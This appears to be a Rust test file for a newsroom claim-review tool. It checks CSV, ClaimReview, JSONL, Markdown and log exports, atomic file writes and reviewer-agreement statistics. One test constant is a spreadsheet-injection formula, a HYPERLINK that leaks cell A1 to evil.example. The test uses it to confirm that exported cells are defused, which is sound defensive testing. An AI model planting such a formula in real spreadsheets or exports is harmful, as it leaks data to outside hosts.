//! Exports as the newsroom receives them: CSV that a spreadsheet cannot be tricked by,
//! ClaimReview for contradicted claims only, a report that article text cannot break,
//! a decision log that merges idempotently, files that are never left half-written,
//! and the stats a desk lead reads.

use claimdesk::cli::ExportFormat;
use claimdesk::corpus::Corpus;
use claimdesk::desk::Desk;
use claimdesk::export::{self, log, ExportOptions};
use claimdesk::model::{Article, Attribution, Claim, QuoteSelector, SourceType, Status};
use claimdesk::stats::Stats;
use claimdesk::store::{NewMark, Store};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"اضغط هنا\")";

fn article(
    path: &str,
    title: &str,
    outlet: Option<&str>,
    url: Option<&str>,
    text: &str,
) -> Article {
    Article {
        id: claimdesk::ids::article_id(text),
        path: path.to_string(),
        title: title.to_string(),
        url: url.map(str::to_string),
        outlet: outlet.map(str::to_string),
        date: Some("2017-11-15".to_string()),
        author: None,
        lang: "ar".to_string(),
        text: text.to_string(),
        boilerplate: Vec::new(),
        shelved: false,
    }
}

fn claim(a: &Article, sentence: &str, source_type: SourceType, source: Option<&str>) -> Claim {
    let start = a.text.find(sentence).expect("sentence is in the article");
    Claim {
        id: claimdesk::ids::claim_id(&a.id, sentence),
        article_id: a.id.clone(),
        span: start..start + sentence.len(),
        text: sentence.to_string(),
        attribution: Attribution {
            source_type,
            source: source.map(str::to_string),
            cue: source.map(|_| "وقال".to_string()),
            ..Default::default()
        },
        suggested: Status::Attributed,
        ..Default::default()
    }
}

/// Two articles, five claims: the first a formula, one with a hostile title.
fn desk_with(store: Store, reviewer: &str) -> Desk {
    let first_text = format!(
        "{FORMULA}\nوقال المتحدث باسم وزارة الدفاع إن القوات دخلت 48 قرية.\nأفادت مصادر بأن القصف استمر طوال الليل."
    );
    let first = article(
        "000_first.txt",
        "الجيش يعلن التقدم",
        Some("وكالة الأنباء"),
        Some("https://news.example/ar/1"),
        &first_text,
    );
    let second_text =
        "# Hacked | `code`\nنفت الحكومة وصول 50 شاحنة.\nالوضع هادئ في المدينة.".to_string();
    let second = article(
        "001_second.txt",
        "# Hacked | `code`",
        None,
        None,
        &second_text,
    );
    let claims = vec![
        vec![
            claim(&first, FORMULA, SourceType::Unattributed, None),
            claim(
                &first,
                "وقال المتحدث باسم وزارة الدفاع إن القوات دخلت 48 قرية.",
                SourceType::Named,
                Some("المتحدث باسم وزارة الدفاع"),
            ),
            claim(
                &first,
                "أفادت مصادر بأن القصف استمر طوال الليل.",
                SourceType::Anonymous,
                Some("مصادر"),
            ),
        ],
        vec![
            claim(
                &second,
                "نفت الحكومة وصول 50 شاحنة.",
                SourceType::Named,
                Some("الحكومة"),
            ),
            claim(
                &second,
                "الوضع هادئ في المدينة.",
                SourceType::Unattributed,
                None,
            ),
        ],
    ];
    let corpus = Corpus {
        root: PathBuf::from("/corpus"),
        articles: vec![first, second],
        problems: Vec::new(),
    };
    Desk::from_parts(corpus, claims, store, reviewer).expect("desk")
}

fn desk() -> Desk {
    desk_with(Store::open_in_memory().expect("store"), "rana")
}

fn exported(desk: &Desk, format: ExportFormat, opts: &ExportOptions) -> String {
    let all: Vec<usize> = (0..desk.claims.len()).collect();
    let mut out = Vec::new();
    export::export(desk, format, &all, opts, &mut out).expect("export");
    String::from_utf8(out).expect("utf-8")
}

/// A second reviewer's decision, written as their own process would.
fn mark_as(desk: &mut Desk, i: usize, status: Status, reviewer: &str) {
    let c = desk.claims[i].clone();
    desk.store
        .record(&NewMark {
            claim_id: c.id,
            article_id: c.article_id,
            status,
            note: None,
            reviewer: reviewer.to_string(),
            selector: QuoteSelector::default(),
        })
        .expect("record");
    desk.refresh().expect("refresh");
}

fn statuses(desk: &Desk) -> Vec<Status> {
    (0..desk.claims.len()).map(|i| desk.status(i)).collect()
}

#[test]
fn csv_formula_cells_are_inert_and_read_back_with_a_csv_parser() {
    let mut desk = desk();
    let note = "قال \"مصدر\", ثم\nتراجع";
    desk.mark(0, Status::Contradicted, Some(note.to_string()))
        .expect("mark");
    let text = exported(&desk, ExportFormat::Csv, &ExportOptions::default());
    assert!(text.contains("\r\n"), "RFC 4180 line ends");
    assert!(!text.starts_with('\u{feff}'));

    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 5, "one row per claim");
    let first = &rows[0];
    assert_eq!(&first[col("claim")], format!("'{FORMULA}"));
    assert_eq!(
        &first[col("note")],
        note,
        "quotes, commas and newlines survive"
    );
    assert_eq!(&first[col("status")], "contradicted");
    assert_eq!(&first[col("reviewer")], "rana");
    assert_eq!(&first[col("title")], "الجيش يعلن التقدم");
    assert_eq!(&first[col("outlet")], "وكالة الأنباء");
    assert_eq!(&first[col("source_type")], "unattributed");
    assert_eq!(&rows[1][col("source")], "المتحدث باسم وزارة الدفاع");
    assert_eq!(&rows[1][col("claim_id")], desk.claims[1].id);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula cell {cell:?}"
            );
        }
    }

    let excel = exported(
        &desk,
        ExportFormat::Csv,
        &ExportOptions {
            excel: true,
            ..Default::default()
        },
    );
    assert!(excel.starts_with("\u{feff}claim_id,"));
}

#[test]
fn claimreview_has_every_required_field_for_contradicted_claims_and_nothing_else() {
    let mut desk = desk();
    desk.mark(0, Status::Contradicted, None).expect("mark");
    desk.mark(1, Status::Contradicted, None).expect("mark");
    desk.mark(2, Status::Attributed, None).expect("mark");
    desk.mark(3, Status::Unverified, None).expect("mark");
    let opts = ExportOptions {
        organisation: "مرصد التحقق".to_string(),
        verdicts: [("contradicted".to_string(), "Misleading".to_string())].into(),
        ..Default::default()
    };
    let text = exported(&desk, ExportFormat::Claimreview, &opts);
    let reviews: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
    let reviews = reviews.as_array().expect("one array");
    assert_eq!(reviews.len(), 2, "only the contradicted claims");
    for (r, claim) in reviews.iter().zip([&desk.claims[0], &desk.claims[1]]) {
        assert_eq!(r["@context"], "https://schema.org");
        assert_eq!(r["@type"], "ClaimReview");
        assert_eq!(r["claimReviewed"], claim.text.as_str());
        assert_eq!(r["reviewRating"]["alternateName"], "Misleading");
        assert_eq!(r["author"]["name"], "مرصد التحقق");
        assert_eq!(r["itemReviewed"]["@type"], "Claim");
        assert_eq!(
            r["itemReviewed"]["appearance"]["url"],
            "https://news.example/ar/1"
        );
        let day = r["datePublished"].as_str().expect("datePublished");
        assert_eq!(day.len(), 10, "{day}");
        assert!(r["itemReviewed"]["author"]["name"].is_string());
    }
    assert_eq!(
        reviews[1]["itemReviewed"]["author"]["name"], "المتحدث باسم وزارة الدفاع",
        "a named source is the claim's author"
    );
    assert_eq!(
        reviews[0]["itemReviewed"]["author"]["name"], "وكالة الأنباء",
        "an unattributed claim is the outlet's"
    );

    let none = exported(&self::desk(), ExportFormat::Claimreview, &opts);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&none).expect("json"),
        serde_json::json!([])
    );
}

#[test]
fn jsonl_has_the_claims_record_related_ids_and_history_when_asked() {
    let mut desk = desk();
    desk.mark(1, Status::Unverified, Some("check".into()))
        .expect("mark");
    desk.mark(1, Status::Attributed, None).expect("mark");
    let opts = ExportOptions {
        history: true,
        ..Default::default()
    };
    let text = exported(&desk, ExportFormat::Jsonl, &opts);
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(lines.len(), 5);
    let line = &lines[1];
    let record = serde_json::to_value(desk.record(1)).expect("record");
    for (key, value) in record.as_object().expect("object") {
        assert_eq!(&line[key], value, "field {key}");
    }
    assert_eq!(line["status"], "attributed");
    assert_eq!(line["note"], "check", "the note is kept");
    let related: Vec<&str> = desk.claims[1]
        .related
        .iter()
        .map(|r| r.claim_id.as_str())
        .collect();
    assert_eq!(line["related"], serde_json::json!(related));
    let history = line["history"].as_array().expect("history");
    assert_eq!(history.len(), 2);
    assert_eq!(history[1]["old_status"], "unverified");
    assert!(lines[0]["history"].as_array().expect("array").is_empty());

    let plain = exported(&desk, ExportFormat::Jsonl, &ExportOptions::default());
    assert!(!plain.contains("\"history\""));
}

#[test]
fn markdown_report_groups_by_article_and_neutralises_article_text() {
    let mut desk = desk();
    desk.mark(1, Status::Contradicted, Some("نفته الوزارة | `x`".into()))
        .expect("mark");
    desk.mark(3, Status::Attributed, None).expect("mark");
    let md = exported(&desk, ExportFormat::Md, &ExportOptions::default());
    assert!(md.starts_with("# Claims report\n"));
    assert!(md.contains("## الجيش يعلن التقدم\n"));
    assert!(md.contains("## \\# Hacked \\| \\`code\\`\n"), "{md}");
    assert!(md.contains("وكالة الأنباء · 2017-11-15 · 1/3 claims triaged"));
    assert!(md.contains("### ✗ Contradicted (1)"));
    assert!(md.contains("  - note: نفته الوزارة \\| \\`x\\`"));
    assert!(md.contains("  - source: المتحدث باسم وزارة الدفاع (named)"));
    // Article text never starts a line of its own, nor opens a code span.
    for line in md.lines() {
        assert!(!line.starts_with("# Hacked"), "{line}");
        assert!(!line.contains(" `") && !line.contains("|`"), "{line}");
    }
    let contradicted = md.find("### ✗ Contradicted").expect("section");
    let untriaged = md.find("### · Untriaged").expect("section");
    assert!(contradicted < untriaged, "problems first");
    // The summary table has one row per article with intact columns.
    let rows: Vec<&str> = md
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| ---"))
        .collect();
    assert_eq!(rows.len(), 3, "header and two articles");
    for row in rows {
        let cells = row.split(" | ").count();
        assert_eq!(cells, 4, "{row}");
    }
}

#[test]
fn a_log_imported_twice_into_a_fresh_store_gives_the_same_statuses_once() {
    let mut origin = desk();
    origin
        .mark(0, Status::Contradicted, Some("كاذب".into()))
        .expect("mark");
    origin.mark(1, Status::Unverified, None).expect("mark");
    origin.mark(1, Status::Attributed, None).expect("mark");
    mark_as(&mut origin, 1, Status::Contradicted, "omar");
    mark_as(&mut origin, 4, Status::Attributed, "omar");
    // A mark on a claim this corpus no longer has travels too.
    origin
        .store
        .record(&NewMark {
            claim_id: "gone".into(),
            article_id: "old".into(),
            status: Status::Unverified,
            note: None,
            reviewer: "rana".into(),
            selector: QuoteSelector {
                exact: "جملة حذفت".into(),
                prefix: String::new(),
                suffix: String::new(),
            },
        })
        .expect("record");
    origin.reload_marks().expect("reload");
    let log_text = exported(&origin, ExportFormat::Log, &ExportOptions::default());
    assert_eq!(log_text.lines().count(), 6);
    for line in log_text.lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("json line");
        for field in [
            "log",
            "uid",
            "claim_id",
            "article_id",
            "selector",
            "old_status",
            "new_status",
            "note",
            "reviewer",
            "at",
        ] {
            assert!(v.get(field).is_some(), "{field} missing in {line}");
        }
    }

    let mut fresh = desk_with(Store::open_in_memory().expect("store"), "someone");
    let first = log::import(&mut fresh, &mut log_text.as_bytes(), "team.log").expect("import");
    assert_eq!(first.added, 6);
    assert_eq!(first.already_present, 0);
    assert_eq!(first.unknown_claims, 1);
    let second = log::import(&mut fresh, &mut log_text.as_bytes(), "team.log").expect("again");
    assert_eq!(second.added, 0);
    assert_eq!(second.already_present, 6);

    assert_eq!(statuses(&fresh), statuses(&origin));
    assert_eq!(fresh.store.events_since(0).expect("events").len(), 6);
    assert_eq!(
        fresh.orphans().len(),
        1,
        "the unknown claim shows as an orphan"
    );
    assert!(fresh.mark_of(1).expect("mark").disputed);
    assert_eq!(
        fresh.mark_of(0).expect("mark").note.as_deref(),
        Some("كاذب")
    );
    // And the merged store exports the same log back.
    let again = exported(&fresh, ExportFormat::Log, &ExportOptions::default());
    assert_eq!(again, log_text);
}

#[test]
fn a_log_with_a_bad_line_is_refused_by_line_number_and_changes_nothing() {
    let mut origin = desk();
    origin.mark(0, Status::Attributed, None).expect("mark");
    let good = exported(&origin, ExportFormat::Log, &ExportOptions::default());
    let bad = format!("{good}\n{{\"claim_id\": \"x\", \"old_status\": \"untriaged\", \"new_status\": \"maybe\", \"reviewer\": \"r\", \"at\": \"2026-01-01T00:00:00Z\"}}\n");
    let mut fresh = desk();
    let err = log::import(&mut fresh, &mut bad.as_bytes(), "team.log").expect_err("refused");
    let message = err.to_string();
    assert!(message.starts_with("team.log:3:"), "{message}");
    assert!(fresh.store.events_since(0).expect("events").is_empty());

    let hand_written = "{\"claim_id\": \"x\", \"old_status\": \"untriaged\", \"new_status\": \"unverified\", \"reviewer\": \"r\", \"at\": \"2026-01-01T00:00:00Z\"}\n";
    let summary =
        log::import(&mut fresh, &mut hand_written.as_bytes(), "hand.log").expect("no uid is fine");
    assert_eq!(summary.added, 1);
    let again = log::import(&mut fresh, &mut hand_written.as_bytes(), "hand.log").expect("again");
    assert_eq!(again.added, 0, "a computed uid is stable");
    let wrong_time = hand_written.replace("2026-01-01T00:00:00Z", "yesterday");
    let err = log::import(&mut fresh, &mut wrong_time.as_bytes(), "hand.log").expect_err("bad");
    assert!(err.to_string().contains("hand.log:1:"), "{err}");
}

#[test]
fn an_imported_older_decision_does_not_replace_a_newer_one() {
    let mut desk = desk();
    desk.mark(0, Status::Contradicted, None).expect("mark");
    let id = desk.claims[0].id.clone();
    let old = format!("{{\"claim_id\": \"{id}\", \"old_status\": \"untriaged\", \"new_status\": \"attributed\", \"reviewer\": \"rana\", \"at\": \"2001-01-01T00:00:00Z\"}}\n");
    let summary = log::import(&mut desk, &mut old.as_bytes(), "old.log").expect("import");
    assert_eq!(summary.added, 1, "kept in history");
    assert_eq!(
        desk.status(0),
        Status::Contradicted,
        "the newer decision stands"
    );
    assert_eq!(desk.store.history(&id).expect("history").len(), 2);
}

/// Set in a child process: the file it exports to, slowly, until killed.
const CHILD_EXPORT: &str = "CLAIMDESK_TEST_CHILD_EXPORT";

#[test]
#[ignore = "run as a child process by killing_an_export_leaves_the_old_file"]
fn child_exports_until_killed() {
    let Some(path) = std::env::var_os(CHILD_EXPORT) else {
        return;
    };
    let _ = export::write_atomically(Path::new(&path), &mut |w| {
        let chunk = "claim_id,claim\r\n".repeat(4096);
        w.write_all(chunk.as_bytes())?;
        w.flush()?;
        println!("\nwriting");
        // Bounded, so that a parent that fails to kill us cannot leave us running.
        for _ in 0..6000 {
            w.write_all(chunk.as_bytes())?;
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        Ok(())
    });
}

#[test]
fn killing_an_export_leaves_the_old_file() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("claims.csv");
    std::fs::write(&path, "the old export\n").expect("write");
    let mut child = Command::new(std::env::current_exe().expect("exe"))
        .args([
            "child_exports_until_killed",
            "--exact",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(CHILD_EXPORT, &path)
        .stdout(Stdio::piped())
        .spawn()
        .expect("spawn");
    let stdout = child.stdout.take().expect("stdout");
    let started = BufReader::new(stdout)
        .lines()
        .map_while(Result::ok)
        .any(|l| l.ends_with("writing"));
    child.kill().expect("SIGKILL");
    child.wait().expect("reap");
    assert!(started, "the child began writing");
    assert_eq!(
        std::fs::read_to_string(&path).expect("read"),
        "the old export\n"
    );
}

#[test]
fn a_failed_export_leaves_the_old_file_and_no_temporary() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("report.md");
    std::fs::write(&path, "old").expect("write");
    let result = export::write_atomically(&path, &mut |w| {
        w.write_all(b"half a rep")?;
        Err(std::io::Error::other("disk full"))
    });
    assert!(result.is_err());
    assert_eq!(std::fs::read_to_string(&path).expect("read"), "old");
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .expect("list")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(names, vec![std::ffi::OsString::from("report.md")]);

    export::write_atomically(&path, &mut |w| w.write_all("تقرير جديد".as_bytes())).expect("write");
    assert_eq!(std::fs::read_to_string(&path).expect("read"), "تقرير جديد");
}

#[test]
fn stats_count_by_status_type_outlet_and_reviewer_with_kappa_per_pair() {
    let mut desk = desk();
    let rana = [
        Status::Contradicted,
        Status::Attributed,
        Status::Unverified,
        Status::Attributed,
    ];
    let omar = [
        Status::Contradicted,
        Status::Attributed,
        Status::Attributed,
        Status::Attributed,
    ];
    for (i, s) in rana.into_iter().enumerate() {
        desk.mark(i, s, None).expect("mark");
    }
    for (i, s) in omar.into_iter().enumerate() {
        mark_as(&mut desk, i, s, "omar");
    }
    mark_as(&mut desk, 0, Status::Contradicted, "lina");
    let stats = Stats::try_compute(&desk).expect("stats");
    assert_eq!(stats.claims, 5);
    assert_eq!(stats.triaged, 4);
    assert_eq!(stats.disputed, 1, "claim 2: unverified vs attributed");
    assert_eq!(stats.by_status.untriaged, 1);
    assert_eq!(
        stats.by_status.attributed, 3,
        "omar's are the newest decisions"
    );
    let named = &stats.by_source_type[0];
    assert_eq!((named.source_type, named.counts.total()), ("named", 2));
    let unknown = stats
        .by_outlet
        .iter()
        .find(|o| o.outlet == "(unknown)")
        .expect("article without an outlet");
    assert_eq!((unknown.articles, unknown.counts.total()), (1, 2));
    assert_eq!(stats.per_article[0].triaged, 3);
    assert_eq!(stats.per_article[1].triaged, 1);

    let omar_row = stats
        .by_reviewer
        .iter()
        .find(|r| r.reviewer == "omar")
        .expect("omar");
    assert_eq!((omar_row.decided, omar_row.events), (4, 4));
    assert_eq!(omar_row.counts.attributed, 3);

    let pair = stats
        .agreement
        .iter()
        .find(|a| a.reviewers == ["omar".to_string(), "rana".to_string()])
        .expect("omar and rana");
    assert_eq!((pair.n, pair.agreed), (4, 3));
    // pₒ = 3/4; omar: C 1, A 3; rana: C 1, A 2, U 1 → pₑ = 1/16 + 6/16.
    let expected = (0.75 - 7.0 / 16.0) / (1.0 - 7.0 / 16.0);
    assert!((pair.kappa.expect("defined") - expected).abs() < 1e-9);
    let lina = stats
        .agreement
        .iter()
        .find(|a| a.reviewers[0] == "lina")
        .expect("lina pairs");
    assert_eq!(lina.n, 1, "only the claim both marked");
    assert_eq!(lina.kappa, None, "one shared status: undefined");

    let text = stats.render_text();
    assert!(text.starts_with("5 claims in 2 articles, 4 triaged (80%), 1 disputed"));
    assert!(text.contains("  omar / rana"), "{text}");
    assert!(text.contains("وكالة الأنباء"));
    let json = serde_json::to_value(&stats).expect("json");
    assert_eq!(json["by_outlet"][0]["contradicted"], 0);
    assert_eq!(json["agreement"][0]["n"], 1);
}
